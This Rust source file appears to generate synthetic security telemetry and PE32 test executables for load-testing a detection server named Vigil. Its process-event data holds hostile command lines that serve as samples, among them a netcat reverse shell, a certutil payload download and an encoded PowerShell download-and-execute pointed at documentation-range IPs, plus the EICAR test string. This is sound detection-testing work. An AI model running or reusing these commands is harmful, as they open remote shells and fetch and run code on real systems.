//! Synthetic traffic: ECS events (NDJSON batches), events for on-demand analysis,
//! connection records and executables. Every event of a run carries the run's `host.name`
//! and a unique `event.id` (`<run>-<seq>`, `seq` counting from 0), so nothing is
//! deduplicated and what the server stored can be counted and matched afterwards. Content is
//! varied deterministically from the sequence number; some of it is meant to make Vigil's
//! analyzers and the load's script react (encoded PowerShell, shells, known-bad patterns).

use base64::Engine as _;
use serde_json::{Value, json};
use std::sync::atomic::{AtomicU64, Ordering::Relaxed};

/// The EICAR anti-virus test string (harmless; every scanner knows it).
pub const EICAR: &[u8] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

/// Every how many process events one carries `powershell -enc`.
pub const ENCODED_POWERSHELL_EVERY: u64 = 20;

/// Deterministic randomness for synthetic content: `vigil_ml`'s SplitMix64, plus picking
/// and byte filling.
#[derive(Clone, Debug)]
pub struct Rng(vigil_ml::rng::SplitMix64);

impl Rng {
    /// A generator seeded with `seed`.
    pub fn new(seed: u64) -> Rng {
        Rng(vigil_ml::rng::SplitMix64::new(seed))
    }

    /// The next 64 random bits.
    pub fn next_u64(&mut self) -> u64 {
        self.0.next_u64()
    }

    /// A number in `0..n` (`n > 0`).
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }

    /// One of `items`.
    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    /// `buf` filled with random bytes.
    pub fn fill(&mut self, buf: &mut [u8]) {
        for chunk in buf.chunks_mut(8) {
            let r = self.next_u64().to_le_bytes();
            chunk.copy_from_slice(&r[..chunk.len()]);
        }
    }
}

/// A batch of NDJSON events.
#[derive(Debug)]
pub struct Batch {
    /// The body, one event a line.
    pub body: String,
    /// Sequence number of the first event; the others follow.
    pub first: u64,
    /// Number of events.
    pub count: u64,
}

/// Produces the run's traffic.
#[derive(Debug)]
pub struct Generator {
    /// The run's id: 8 hex digits.
    pub run: String,
    /// `host.name` (and `agent.id`) of every event: `load-<run>`.
    pub host: String,
    seed: u64,
    next_seq: AtomicU64,
    next_other: AtomicU64,
}

const PROCESSES: &[(&str, &str, &str)] = &[
    (
        "chrome.exe",
        "explorer.exe",
        "chrome.exe --type=renderer --lang=en-US",
    ),
    ("svchost.exe", "services.exe", "svchost.exe -k netsvcs -p"),
    ("cmd.exe", "explorer.exe", "cmd.exe /c dir C:\\Users"),
    ("bash", "sshd", "bash -c 'ls -la /var/log'"),
    ("python3", "bash", "python3 /opt/app/worker.py --queue jobs"),
    (
        "curl",
        "bash",
        "curl -s https://updates.example.com/v1/check",
    ),
    ("whoami.exe", "w3wp.exe", "whoami /all"),
    (
        "rundll32.exe",
        "winword.exe",
        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication\"",
    ),
    (
        "certutil.exe",
        "cmd.exe",
        "certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe",
    ),
    ("nc", "bash", "nc -e /bin/sh 198.51.100.23 4444"),
];
const USERS: &[&str] = &["alice", "bob", "svc-backup", "www-data", "SYSTEM"];
const NET_PROCESSES: &[&str] = &["chrome.exe", "curl", "svchost.exe", "python3", "sshd"];
const PORTS: &[u16] = &[443, 443, 443, 80, 53, 22, 8080, 4444, 3389];

impl Generator {
    /// A generator for run `run` (8 hex digits; `uuid` gives a fresh one).
    pub fn new(run: &str) -> Generator {
        let seed = u64::from_str_radix(run, 16).unwrap_or(0x5EED);
        Generator {
            run: run.to_string(),
            host: format!("load-{run}"),
            seed,
            next_seq: AtomicU64::new(0),
            next_other: AtomicU64::new(0),
        }
    }

    /// The `event.id` of event `seq`.
    pub fn event_id(&self, seq: u64) -> String {
        format!("{}-{seq}", self.run)
    }

    /// The sequence number in one of this run's event ids.
    pub fn seq_of(&self, id: &str) -> Option<u64> {
        id.strip_prefix(&self.run)?.strip_prefix('-')?.parse().ok()
    }

    fn rng(&self, n: u64, salt: u64) -> Rng {
        Rng::new(self.seed ^ n.wrapping_mul(0x2545_F491_4F6C_DD1D) ^ salt)
    }

    /// An encoded PowerShell command line (base64 of UTF-16LE, as `-EncodedCommand` takes).
    pub fn encoded_powershell(n: u64) -> String {
        let script = format!(
            "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p{n}.ps1')"
        );
        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        format!(
            "powershell -enc {}",
            base64::engine::general_purpose::STANDARD.encode(utf16)
        )
    }

    fn process_fields(&self, rng: &mut Rng, n: u64) -> Value {
        let (name, parent, cmd) = if n.is_multiple_of(ENCODED_POWERSHELL_EVERY) {
            (
                "powershell.exe",
                "winword.exe",
                Generator::encoded_powershell(n),
            )
        } else {
            let (name, parent, cmd) = rng.pick(PROCESSES);
            (*name, *parent, format!("{cmd} #{n}"))
        };
        json!({
            "pid": 1000 + rng.below(60000),
            "name": name,
            "command_line": cmd,
            "parent": {"name": parent, "pid": 4 + rng.below(1000)},
        })
    }

    /// Event `seq` at `timestamp`, as ECS JSON.
    pub fn event(&self, seq: u64, timestamp: &str) -> Value {
        let mut rng = self.rng(seq, 1);
        let id = self.event_id(seq);
        let common = |category: &str, action: &str| {
            json!({
                "@timestamp": timestamp,
                "event": {"id": id, "kind": "event", "category": category, "action": action},
                "host": {"name": self.host},
                "agent": {"id": self.host, "type": "vigil-load"},
                "user": {"name": USERS[(seq % USERS.len() as u64) as usize]},
            })
        };
        match seq % 10 {
            // Half process starts, among them every 20th an encoded PowerShell.
            0..=4 => {
                let mut e = common("process", "start");
                // Numbered among the process events: 0, 1, 2, … for seq 0–4, 10–14, …
                e["process"] = self.process_fields(&mut rng, seq / 10 * 5 + seq % 10);
                e
            }
            // Three in ten outbound connections (the network analyzer scores them).
            5..=7 => {
                let mut e = common("network", "connection");
                e["source"] = json!({
                    "ip": format!("10.1.{}.{}", rng.below(250), 1 + rng.below(250)),
                    "port": 1024 + rng.below(60000),
                    "bytes": rng.below(100_000),
                });
                e["destination"] = json!({
                    "ip": format!("203.0.113.{}", 1 + rng.below(250)),
                    "port": *rng.pick(PORTS),
                    "bytes": rng.below(1_000_000),
                });
                e["network"] = json!({"transport": "tcp", "direction": "outbound"});
                e["process"] =
                    json!({"name": *rng.pick(NET_PROCESSES), "pid": 1000 + rng.below(60000)});
                e
            }
            // Two in ten files written, with a hash (the file analyzer looks it up).
            _ => {
                let mut e = common("file", "creation");
                let mut digest = [0u8; 32];
                rng.fill(&mut digest);
                let hex: String = digest.iter().map(|b| format!("{b:02x}")).collect();
                e["file"] = json!({
                    "path": format!("C:\\Users\\Public\\Downloads\\f{seq}.exe"),
                    "hash": {"sha256": hex},
                    "size": rng.below(5_000_000),
                });
                e["process"] = json!({"name": "chrome.exe", "pid": 1000 + rng.below(60000)});
                e
            }
        }
    }

    /// The next `n` events as one NDJSON body.
    pub fn bulk(&self, n: u64) -> Batch {
        let first = self.next_seq.fetch_add(n, Relaxed);
        let ts = now_rfc3339();
        let mut body = String::with_capacity(n as usize * 400);
        for seq in first..first + n {
            body.push_str(&self.event(seq, &ts).to_string());
            body.push('\n');
        }
        Batch {
            body,
            first,
            count: n,
        }
    }

    /// A process event for `POST /api/v1/analyze` (not stored by the server); every other
    /// one carries `powershell -enc`, which the load's script flags.
    pub fn analyze_event(&self) -> Value {
        let n = self.next_other.fetch_add(1, Relaxed);
        let mut rng = self.rng(n, 2);
        let process = if n.is_multiple_of(2) {
            json!({
                "name": "powershell.exe",
                "pid": 4242,
                "command_line": Generator::encoded_powershell(n),
                "parent": {"name": "winword.exe"},
            })
        } else {
            // An odd number: never the encoded PowerShell of `process_fields`.
            self.process_fields(&mut rng, n * 2 + 1)
        };
        json!({
            "@timestamp": now_rfc3339(),
            "event": {"id": format!("{}-a{n}", self.run), "category": "process", "action": "start"},
            "host": {"name": self.host},
            "user": {"name": *rng.pick(USERS)},
            "process": process,
        })
    }

    /// `n` connection records in seed 002's shape, as a batch body.
    pub fn network_batch(&self, n: u64) -> Value {
        let first = self.next_other.fetch_add(n, Relaxed);
        let ts = now_rfc3339();
        let records: Vec<Value> = (first..first + n)
            .map(|i| {
                let mut rng = self.rng(i, 3);
                // Mostly ordinary HTTPS, sometimes a large upload to an odd port.
                let odd = i % 50 == 0;
                let bytes_sent = if odd {
                    50_000_000 + rng.below(1_000_000)
                } else {
                    200 + rng.below(20_000)
                };
                json!({
                    "timestamp": ts,
                    "host": self.host,
                    "process_id": 1000 + rng.below(60000),
                    "process_name": *rng.pick(NET_PROCESSES),
                    "local_ip": format!("10.1.{}.{}", rng.below(250), 1 + rng.below(250)),
                    "local_port": 1024 + rng.below(60000),
                    "remote_ip": format!("203.0.113.{}", 1 + rng.below(250)),
                    "remote_port": if odd { 4444 } else { *rng.pick(&PORTS[..4]) },
                    "protocol": "TCP",
                    "direction": "outbound",
                    "state": "ESTABLISHED",
                    "bytes_sent": bytes_sent,
                    "bytes_received": 500 + rng.below(200_000),
                    "duration": (1 + rng.below(30_000)) as f64 / 1000.0,
                })
            })
            .collect();
        json!({ "records": records })
    }

    /// A small executable for the file-analysis protocol: a minimal PE32 with one `.text`
    /// section of random bytes (4–16 KiB, unique to `n`); every tenth carries the EICAR
    /// string.
    pub fn file(&self, n: u64) -> Vec<u8> {
        let mut rng = self.rng(n, 4);
        let sections = 8 + rng.below(25) as usize; // × 512 bytes
        let mut code = vec![0u8; sections * 512];
        rng.fill(&mut code);
        // Some structure, so it is not all noise: a prologue and a repeated string.
        code[..3].copy_from_slice(&[0x55, 0x8B, 0xEC]);
        let text = format!("vigil-load {} file {n}", self.run);
        code[16..16 + text.len()].copy_from_slice(text.as_bytes());
        if n.is_multiple_of(10) {
            code[512..512 + EICAR.len()].copy_from_slice(EICAR);
        }
        pe32(&code)
    }

    /// A number unique to this run for anything else (file requests).
    pub fn next_number(&self) -> u64 {
        self.next_other.fetch_add(1, Relaxed)
    }
}

/// Now, RFC 3339 in UTC with milliseconds.
pub fn now_rfc3339() -> String {
    chrono::Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Millis, true)
}

/// A minimal PE32 console executable whose single `.text` section holds `code` (a
/// multiple of 512 bytes).
pub fn pe32(code: &[u8]) -> Vec<u8> {
    const FILE_ALIGN: u32 = 0x200;
    const SECTION_ALIGN: u32 = 0x1000;
    let raw = (code.len() as u32).div_ceil(FILE_ALIGN) * FILE_ALIGN;
    let image = SECTION_ALIGN + raw.div_ceil(SECTION_ALIGN) * SECTION_ALIGN;
    let mut out = vec![0u8; FILE_ALIGN as usize];
    let put16 =
        |out: &mut Vec<u8>, at: usize, v: u16| out[at..at + 2].copy_from_slice(&v.to_le_bytes());
    let put32 =
        |out: &mut Vec<u8>, at: usize, v: u32| out[at..at + 4].copy_from_slice(&v.to_le_bytes());
    // DOS header: "MZ", e_lfanew.
    out[..2].copy_from_slice(b"MZ");
    put32(&mut out, 0x3C, 0x80);
    out[0x40..0x40 + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    // PE signature and COFF header.
    let pe = 0x80;
    out[pe..pe + 4].copy_from_slice(b"PE\0\0");
    let coff = pe + 4;
    put16(&mut out, coff, 0x014C); // i386
    put16(&mut out, coff + 2, 1); // sections
    put32(&mut out, coff + 4, 0x6560_0000); // time stamp
    put16(&mut out, coff + 16, 224); // optional header size
    put16(&mut out, coff + 18, 0x0102); // executable, 32-bit
    // Optional header (PE32).
    let opt = coff + 20;
    put16(&mut out, opt, 0x010B);
    out[opt + 2] = 14; // linker 14.0
    put32(&mut out, opt + 4, raw); // size of code
    put32(&mut out, opt + 16, SECTION_ALIGN); // entry point
    put32(&mut out, opt + 20, SECTION_ALIGN); // base of code
    put32(
        &mut out,
        opt + 24,
        SECTION_ALIGN + raw.div_ceil(SECTION_ALIGN) * SECTION_ALIGN,
    ); // base of data
    put32(&mut out, opt + 28, 0x0040_0000); // image base
    put32(&mut out, opt + 32, SECTION_ALIGN);
    put32(&mut out, opt + 36, FILE_ALIGN);
    put16(&mut out, opt + 40, 6); // OS 6.0
    put16(&mut out, opt + 48, 6); // subsystem 6.0
    put32(&mut out, opt + 56, image); // size of image
    put32(&mut out, opt + 60, FILE_ALIGN); // size of headers
    put16(&mut out, opt + 68, 3); // console
    put16(&mut out, opt + 70, 0x8140); // NX, dynamic base, terminal server aware
    put32(&mut out, opt + 72, 0x0010_0000); // stack reserve
    put32(&mut out, opt + 76, 0x1000); // stack commit
    put32(&mut out, opt + 80, 0x0010_0000); // heap reserve
    put32(&mut out, opt + 84, 0x1000); // heap commit
    put32(&mut out, opt + 92, 16); // data directories (all empty)
    // Section table: .text.
    let sec = opt + 224;
    out[sec..sec + 8].copy_from_slice(b".text\0\0\0");
    put32(&mut out, sec + 8, code.len() as u32); // virtual size
    put32(&mut out, sec + 12, SECTION_ALIGN); // virtual address
    put32(&mut out, sec + 16, raw); // size of raw data
    put32(&mut out, sec + 20, FILE_ALIGN); // pointer to raw data
    put32(&mut out, sec + 36, 0x6000_0020); // code, execute, read
    out.extend_from_slice(code);
    out.resize(FILE_ALIGN as usize + raw as usize, 0);
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    fn lines(batch: &Batch) -> Vec<Value> {
        batch
            .body
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }

    #[test]
    fn bulk_ids_are_unique_and_consecutive() {
        let g = Generator::new("0a1b2c3d");
        let a = g.bulk(250);
        let b = g.bulk(250);
        assert_eq!((a.first, a.count, b.first, b.count), (0, 250, 250, 250));
        let mut ids = HashSet::new();
        for (batch, events) in [(&a, lines(&a)), (&b, lines(&b))] {
            assert_eq!(events.len(), 250);
            for (i, e) in events.iter().enumerate() {
                let id = e["event"]["id"].as_str().unwrap();
                assert_eq!(g.seq_of(id), Some(batch.first + i as u64));
                assert!(ids.insert(id.to_string()), "duplicate id {id}");
                assert_eq!(e["host"]["name"], "load-0a1b2c3d");
                assert!(
                    id.chars()
                        .all(|c| c.is_ascii_alphanumeric() || "-_.:".contains(c))
                );
            }
        }
        assert_eq!(g.bulk(1).first, 500);
    }

    #[test]
    fn runs_do_not_share_ids_or_hosts() {
        let (g1, g2) = (Generator::new("00000001"), Generator::new("00000002"));
        let e1 = lines(&g1.bulk(1));
        let e2 = lines(&g2.bulk(1));
        assert_ne!(e1[0]["event"]["id"], e2[0]["event"]["id"]);
        assert_ne!(e1[0]["host"]["name"], e2[0]["host"]["name"]);
        assert_eq!(g1.seq_of(e2[0]["event"]["id"].as_str().unwrap()), None);
        assert_eq!(g1.seq_of("00000001-x"), None);
    }

    #[test]
    fn the_mix_has_every_category_and_encoded_powershell() {
        let g = Generator::new("deadbeef");
        let events = lines(&g.bulk(1000));
        let count = |cat: &str| {
            events
                .iter()
                .filter(|e| e["event"]["category"] == cat)
                .count()
        };
        assert_eq!(count("process"), 500);
        assert_eq!(count("network"), 300);
        assert_eq!(count("file"), 200);
        let encoded = events
            .iter()
            .filter(|e| {
                e["process"]["command_line"]
                    .as_str()
                    .is_some_and(|c| c.starts_with("powershell -enc "))
            })
            .count();
        assert_eq!(encoded, 500 / ENCODED_POWERSHELL_EVERY as usize);
        for e in events.iter().filter(|e| e["event"]["category"] == "file") {
            let h = e["file"]["hash"]["sha256"].as_str().unwrap();
            assert_eq!(h.len(), 64);
        }
    }

    #[test]
    fn encoded_powershell_decodes() {
        let cmd = Generator::encoded_powershell(7);
        let b64 = cmd.strip_prefix("powershell -enc ").unwrap();
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(b64)
            .unwrap();
        let units: Vec<u16> = bytes
            .chunks(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        assert!(
            String::from_utf16(&units)
                .unwrap()
                .contains("DownloadString")
        );
    }

    #[test]
    fn analyze_events_and_network_records_are_unique() {
        let g = Generator::new("cafef00d");
        let a = g.analyze_event();
        let b = g.analyze_event();
        assert_ne!(a["event"]["id"], b["event"]["id"]);
        assert_eq!(a["event"]["category"], "process");
        let batch = g.network_batch(20);
        let records = batch["records"].as_array().unwrap();
        assert_eq!(records.len(), 20);
        let distinct: HashSet<String> = records.iter().map(|r| r.to_string()).collect();
        assert_eq!(distinct.len(), 20);
        assert!(records.iter().all(|r| r["host"] == "load-cafef00d"));
    }

    #[test]
    fn files_are_pe_and_unique() {
        let g = Generator::new("12345678");
        let limits = vigil_file::analysis::Limits::default();
        let mut hashes = HashSet::new();
        for n in 0..20 {
            let f = g.file(n);
            assert!(
                f.len() >= 4096 + 512 && f.len() <= 16 * 1024 + 512,
                "{}",
                f.len()
            );
            let report = vigil_file::analysis::analyze(&f, &limits);
            assert!(report.is_pe, "{:?}", report.warnings);
            assert!(hashes.insert(report.sha256));
            let has_eicar = f.windows(EICAR.len()).any(|w| w == EICAR);
            assert_eq!(has_eicar, n % 10 == 0);
        }
    }
}
